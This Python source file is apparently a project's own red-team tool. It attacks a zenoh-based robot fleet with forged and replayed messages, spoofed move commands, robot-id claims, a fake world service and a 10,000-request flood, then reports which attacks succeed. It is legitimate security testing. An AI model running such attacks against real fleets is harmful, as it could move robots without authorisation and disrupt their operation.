"""``python -m tools.rogue``: attack a running fleet as a process on its network would.

    python -m tools.rogue --connect tls/127.0.0.1:7447 --duration 30 [--target 2]
        [--robots 1,2,3] [--credentials DIR --identity observer] [--capture FILE]
        [--replay-file FILE] [--json FILE]

It opens a raw zenoh session (no agent code: it crafts payloads itself) and, for
``--duration`` seconds, repeats every attack of the threat model (docs/security.md) against robot
``--target``:

============  ================================================================
forge         record, digest and ``done`` status on ``nao/{target}/...``: unsigned,
              signed with the rogue's own key (when it has one), and an envelope that
              names the target's key with a garbage signature
replay        every envelope seen on ``nao/**`` and ``world/**`` re-published later, and
              those of an earlier run (``--replay-file``, written by ``--capture``)
command       walk 2 m and turn 3 rad for the target: unsigned and own-key-signed
claim         ``world/register`` for every robot id
fake-world    queryables on ``world/**`` answering at once with a black image and
              ``done``: unsigned and own-key-signed
flood         10 000 malformed camera requests for the target
============  ================================================================

Without credentials it is a stranger; on a secure fleet (TLS with mutual
authentication) it cannot even open a link, and says so. With ``--credentials DIR
--identity observer`` it is an insider holding a viewer's key (access control limits
it); with ``--plain-links`` it reaches a fleet whose links are plain TCP (as behind a
compromised router), where only the end-to-end signatures stand between it and the
robots. It prints one JSON report: per attack what it sent and what came back (a
``done`` reply to a command means a robot was moved by the rogue), also when it is
stopped before its ``--duration`` (SIGINT or SIGTERM; ``cut_short`` true).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import signal
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from types import FrameType
from typing import Any

import msgpack
import zenoh

from agent.wire import (
    KEY_WORLD_REGISTER,
    CameraReply,
    CommandReply,
    DigestMsg,
    NeighborRecordMsg,
    NetworkSpec,
    RegisterRequest,
    StatusMsg,
    TurnRequest,
    WalkRequest,
    decode,
    encode,
    key_camera,
    key_digest,
    key_record,
    key_status,
    key_turn,
    key_walk,
    trust,
)

FLOOD = 10_000
FAKE = "rogue fake world"


def forged_messages(target: int) -> list[tuple[str, bytes]]:
    """(key, payload) of a forged record, digest and ``done`` status of ``target``."""
    far = ((2.5, 0.0), (0.0, 2.5))
    return [
        (key_record(target), encode(NeighborRecordMsg(sender=target, round=99, neighbours=far))),
        (
            key_digest(target),
            encode(DigestMsg(sender=target, round=99, digest="ab" * 32, members=(target,))),
        ),
        (key_status(target), encode(StatusMsg(sender=target, phase="done", progress=1.0))),
    ]


def garbage_envelope(key: str, payload: bytes, cn: str) -> bytes:
    """An envelope that names ``cn``'s key but carries a signature nobody made."""
    now = int(time.time() * 1000)
    who = trust.Identity.parse(cn).code
    data = msgpack.packb([1, who, now, 1, 0, payload, os.urandom(64)], use_bin_type=True)
    assert isinstance(data, bytes)
    return data


class Rogue:
    """One attacker session; counts what it sent and what came back."""

    def __init__(self, session: Any, target: int, robots: list[int], signer: Any) -> None:
        self.s = session
        self.target = target
        self.robots = robots
        self.signer: trust.Signer | None = signer
        self.sent: Counter[str] = Counter()
        self.replies: Counter[str] = Counter()
        self.captured: list[tuple[str, bytes]] = []
        self._lock = threading.Lock()
        self._keep: list[Any] = []

    def variants(self, key: str, payload: bytes) -> list[bytes]:
        out = [payload, garbage_envelope(key, payload, f"robot-{self.target}")]
        if self.signer is not None:
            out.append(self.signer.seal(key, payload))
        return out

    def capture(self) -> None:
        def on_sample(sample: Any) -> None:
            with self._lock:
                if len(self.captured) < 5000:
                    self.captured.append((str(sample.key_expr), sample.payload.to_bytes()))

        for k in ("nao/**", "world/**"):
            self._keep.append(self.s.declare_subscriber(k, on_sample))

    def fake_world(self) -> None:
        black = CameraReply(robot_id=self.target, yaw=0.0, t_sim=0.0, width=1, height=1,
                            encoding="png", data=b"")  # fmt: skip

        def on_query(q: Any) -> None:
            key = str(q.key_expr)
            rid = self.target
            with contextlib.suppress(ValueError):
                rid = int(key.split("/")[2])
            msg = (
                black
                if key.endswith("/camera")
                else CommandReply(robot_id=rid, status="done", t_sim=0.0, detail=FAKE)
            )
            data = encode(msg)
            with contextlib.suppress(Exception):
                q.reply(q.key_expr, self.signer.seal(key, data) if self.signer else data)
                with self._lock:
                    self.sent["fake-world replies"] += 1

        for k in ("world/robot/*/camera", "world/robot/*/walk", "world/robot/*/turn"):
            with contextlib.suppress(Exception):
                self._keep.append(self.s.declare_queryable(k, on_query))

    def put(self, what: str, key: str, data: bytes) -> None:
        try:
            self.s.put(key, data)
            self.sent[what] += 1
        except Exception:
            self.sent[f"{what} (refused locally)"] += 1

    def ask(self, what: str, key: str, data: bytes, timeout: float = 2.0) -> None:
        self.sent[what] += 1
        try:
            replies = list(self.s.get(key, payload=data, timeout=timeout))
        except Exception:
            self.replies[f"{what}: refused locally"] += 1
            return
        if not replies:
            self.replies[f"{what}: no reply"] += 1
        for r in replies:
            self.replies[f"{what}: {classify(r)}"] += 1

    def round(self, replayable: list[tuple[str, bytes]]) -> None:
        for key, payload in forged_messages(self.target):
            for data in self.variants(key, payload):
                self.put("forge", key, data)
        for key, data in replayable:
            self.put("replay", key, data)
        for key, cmd in ((key_walk(self.target), WalkRequest(distance=2.0)),
                         (key_turn(self.target), TurnRequest(angle=3.0))):  # fmt: skip
            for data in self.variants(key, encode(cmd)):
                self.ask("command", key, data)
        for rid in self.robots:
            claim = encode(RegisterRequest(want=rid))
            for data in self.variants(KEY_WORLD_REGISTER, claim):
                self.ask("claim", KEY_WORLD_REGISTER, data, timeout=1.0)

    def flood(self, n: int = FLOOD) -> None:
        key = key_camera(self.target)
        for i in range(n):
            with contextlib.suppress(Exception):
                self.s.get(key, payload=os.urandom(16 + i % 64), timeout=0.5)
            self.sent["flood"] += 1

    def close(self) -> None:
        for obj in self._keep:
            with contextlib.suppress(Exception):
                obj.undeclare()


def classify(reply: Any) -> str:
    """What a reply says: ``executed`` for a ``done`` command, else its kind."""
    if reply.ok is None:
        return "error reply"
    raw = reply.ok.payload.to_bytes()
    with contextlib.suppress(ValueError):
        obj = msgpack.unpackb(raw, raw=False)
        if isinstance(obj, list) and len(obj) == 7 and isinstance(obj[5], bytes):
            raw = obj[5]  # the world's sealed reply: the rogue cannot check it, only read
    try:
        msg = decode(raw)
    except ValueError:
        return "undecodable reply"
    if isinstance(msg, CommandReply) and msg.detail == FAKE:
        return "own fake reply"  # its own fake world answered (zenoh routes locally too)
    if isinstance(msg, CommandReply) and msg.status == "done":
        return "executed"
    return type(msg).__name__


def _interrupted(signum: int, frame: FrameType | None) -> None:
    raise KeyboardInterrupt


def run(args: argparse.Namespace) -> dict[str, Any]:
    who = args.identity if args.credentials else "stranger"
    report: dict[str, Any] = {"target": args.target, "identity": who}
    spec = NetworkSpec(
        connect=tuple(args.connect),
        multicast_scouting=False,
        # client: opening fails when no link can be made (a peer would start alone)
        mode="peer" if args.plain_links else "client",
        credentials=args.credentials or "",
        identity=args.identity if args.credentials else "",
        tls=not args.plain_links,
    )
    cfg = zenoh.Config()
    for k, v in spec.json5_items():
        cfg.insert_json5(k, v)
    if not args.credentials and any(ep.startswith("tls/") for ep in args.connect):
        # a stranger trying TLS without a fleet certificate: it trusts any server
        cfg.insert_json5("transport/link/tls", json.dumps({"verify_name_on_connect": False}))
    cfg.insert_json5("connect/timeout_ms", "3000")
    signer = None
    if args.credentials:
        signer = trust.Credentials(args.credentials).signer(trust.Identity.parse(args.identity))
    try:
        session = zenoh.open(cfg)
    except Exception as exc:
        report["connected"] = False
        report["reason"] = str(exc)[:200]
        return report
    report["connected"] = True
    robots = [int(t) for t in args.robots.split(",") if t]
    rogue = Rogue(session, args.target, robots, signer)
    old: list[tuple[str, bytes]] = []
    if args.replay_file:
        for line in Path(args.replay_file).read_text().splitlines():
            k, h = json.loads(line)
            old.append((k, bytes.fromhex(h)))
    report["cut_short"] = False
    try:
        rogue.capture()
        rogue.fake_world()
        end = time.monotonic() + args.duration
        print(f"rogue: attacking as {who} for {args.duration:g} s", file=sys.stderr, flush=True)
        flooded = False
        while time.monotonic() < end:
            with rogue._lock:
                fresh = list(rogue.captured[-50:])
            rogue.round(old + fresh)
            if not flooded and time.monotonic() > end - args.duration / 2:
                rogue.flood(args.flood)
                flooded = True
            time.sleep(0.5)  # pacing between attack rounds, bounded by --duration
    except KeyboardInterrupt:  # stopped before its end (SIGINT, SIGTERM): report so far
        report["cut_short"] = True
    finally:
        rogue.close()
        session.close()
    if args.capture:
        with Path(args.capture).open("w") as f:
            for k, data in rogue.captured:
                f.write(json.dumps([k, data.hex()]) + "\n")
    report["sent"] = dict(rogue.sent)
    report["replies"] = dict(rogue.replies)
    report["commands_executed"] = sum(
        v for k, v in rogue.replies.items() if k.endswith(": executed")
    )
    report["claims_granted"] = sum(
        v for k, v in rogue.replies.items() if k.startswith("claim: RegisterReply")
    )
    return report


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m tools.rogue", description=__doc__.split("\n")[0])
    p.add_argument("--connect", action="append", required=True, help="the fleet's endpoint")
    p.add_argument("--target", type=int, default=2, help="the robot to impersonate and move")
    p.add_argument("--robots", default="1,2,3", help="ids to claim")
    p.add_argument("--duration", type=float, default=30.0, help="seconds of attack")
    p.add_argument("--flood", type=int, default=FLOOD, help="malformed requests in the flood")
    p.add_argument("--credentials", default=None, help="an insider's credentials folder")
    p.add_argument("--identity", default="observer", help="whose key the insider holds")
    p.add_argument("--plain-links", action="store_true", help="the fleet's links are plain TCP")
    p.add_argument("--capture", default=None, help="write what was seen (for --replay-file)")
    p.add_argument("--replay-file", default=None, help="replay a capture of an earlier run")
    p.add_argument("--json", default=None, help="also write the report here")
    args = p.parse_args(argv)
    if not args.duration > 0:
        p.error("--duration must be > 0")
    signal.signal(signal.SIGTERM, _interrupted)  # a harness that stops it still gets a report
    report = run(args)
    text = json.dumps(report, indent=2, sort_keys=True)
    print(text, flush=True)
    if args.json:
        Path(args.json).write_text(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
